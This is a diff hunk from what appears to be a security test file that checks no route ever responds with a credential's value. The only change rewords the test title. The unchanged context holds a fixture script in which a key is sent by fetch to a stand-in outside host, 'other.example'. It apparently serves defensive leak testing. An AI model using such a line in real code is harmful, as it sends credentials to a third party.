@@ -27,7 +27,7 @@ const script = `
   const text = await llm.complete('What of ' + key + '?')
   await fetch('https://other.example/?key=' + key)`
 
-test('no response of any route contains a credential’s value, whether for its agent, its operator or others', async ({
+test('no route ever responds with the value of a credential, neither to the agent nor to the operator', async ({
   page,
   request,
   appUrl,
